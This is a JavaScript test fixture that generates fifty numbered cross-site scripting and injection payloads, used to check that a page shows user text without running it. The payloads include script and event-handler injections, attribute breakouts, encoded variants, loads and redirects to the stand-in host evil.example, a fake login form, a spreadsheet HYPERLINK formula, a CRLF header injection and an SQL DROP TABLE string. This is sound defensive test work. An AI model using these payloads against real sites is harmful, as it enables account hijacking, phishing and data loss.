// Fifty texts that would run, load or lead astray if a page took them for more than text (T19).
// Each is made for one number, so that what ran can be told from what did not.

/** What a payload does if it runs: it leaves its number where the test looks. */
const hit = n => `top.__hit=(top.__hit||'')+'${n};'`;

const MAKERS = [
  // Elements that run or load something.
  n => `<script>${hit(n)}</script>`,
  n => `<ScRiPt>${hit(n)}</sCrIpT>`,
  n => `<script src="//evil.example/${n}.js"></script>`,
  n => `<img src=x onerror="${hit(n)}">`,
  n => `<img src=x onerror=${hit(n)}//`,
  n => `<svg onload="${hit(n)}">`,
  n => `<svg><script>${hit(n)}</script></svg>`,
  n => `<svg><animate onbegin="${hit(n)}" attributeName=x dur=1s>`,
  n => `<math><mtext><script>${hit(n)}</script></mtext></math>`,
  n => `<iframe srcdoc="<script>${hit(n)}</script>"></iframe>`,
  n => `<iframe src="javascript:${hit(n)}"></iframe>`,
  n => `<object data="javascript:${hit(n)}"></object>`,
  n => `<embed src="javascript:${hit(n)}">`,
  n => `<body onload="${hit(n)}">`,
  n => `<video><source onerror="${hit(n)}"></video>`,
  n => `<audio src=x onerror="${hit(n)}">`,
  n => `<details open ontoggle="${hit(n)}">`,
  n => `<input autofocus onfocus="${hit(n)}">`,
  n => `<select autofocus onfocus="${hit(n)}"></select>`,
  n => `<marquee onstart="${hit(n)}">`,
  n => `<style>@import "//evil.example/${n}.css";</style>`,
  n => `<link rel=stylesheet href="//evil.example/${n}.css">`,
  n => `<meta http-equiv="refresh" content="0;url=//evil.example/${n}">`,
  n => `<base href="//evil.example/${n}/">`,
  n => `<form action="//evil.example/${n}"><button>Log ind</button></form>`,
  n => `<a href="javascript:${hit(n)}">her</a>`,
  n => `<template><script>${hit(n)}</script></template>`,
  // Out of an attribute, an element or a comment.
  n => `" onfocus="${hit(n)}" autofocus="`,
  n => `' onmouseover='${hit(n)}' x='`,
  n => `"><script>${hit(n)}</script>`,
  n => `'><img src=x onerror=${hit(n)}>`,
  n => `</textarea><script>${hit(n)}</script>`,
  n => `</title><script>${hit(n)}</script>`,
  n => `</style><script>${hit(n)}</script>`,
  n => `--><script>${hit(n)}</script><!--`,
  n => `]]><script>${hit(n)}</script>`,
  n => `</option></select><img src=x onerror="${hit(n)}">`,
  n => '`><img src=x onerror=`' + hit(n) + '`>',
  // In other clothes.
  n => `&lt;script&gt;${hit(n)}&lt;/script&gt;`,
  n => `&#60;img src=x onerror=${hit(n)}&#62;`,
  n => `\\u003cscript\\u003e${hit(n)}\\u003c/script\\u003e`,
  n => `%3Cscript%3E${hit(n)}%3C/script%3E`,
  n => `<scr<script>ipt>${hit(n)}</scr</script>ipt>`,
  n => `＜script＞${hit(n)}＜/script＞`,
  n => `\u202e<script>${hit(n)}</script>`,
  // For templates, tables and heads of other kinds.
  n => `{{ ${hit(n)} }} {% ${hit(n)} %} \${${hit(n)}}`,
  n => `javascript:${hit(n)}`,
  n => `=HYPERLINK("http://evil.example/${n}","klik")`,
  n => `a\r\nContent-Type: text/html\r\n\r\n<script>${hit(n)}</script>`,
  n => `'; DROP TABLE guest; -- <b onclick="${hit(n)}">${n}</b>`,
];

/** How many there are. */
export const COUNT = MAKERS.length;

/** The payload of a number; every number has its own. */
export const payload = n => `${MAKERS[n % COUNT](n)} p${n}q`;

/** What of a payload stands on a page that shows it as text. */
export const mark = n => `p${n}q`;
